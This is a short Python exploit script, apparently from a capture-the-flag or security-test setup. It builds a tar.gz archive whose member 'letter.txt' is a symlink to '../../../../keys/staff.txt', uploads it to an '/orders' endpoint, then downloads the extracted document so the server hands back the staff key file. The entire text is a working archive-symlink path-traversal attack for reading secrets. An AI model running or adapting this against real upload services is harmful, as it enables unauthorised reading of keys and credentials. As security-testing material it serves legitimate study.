"""A document is a symbolic link to the key of the staff."""

import io
import tarfile

from target import http

file = io.BytesIO()
with tarfile.open(fileobj=file, mode="w:gz") as archive:
    member = tarfile.TarInfo("letter.txt")
    member.type = tarfile.SYMTYPE
    member.linkname = "../../../../keys/staff.txt"
    archive.addfile(member)

answer = http.post("/orders", data=file.getvalue())
if answer.status_code == 201:
    order = answer.json()["order"]
    print(http.get(f"/orders/{order}/document", params={"name": "letter.txt"}).text)
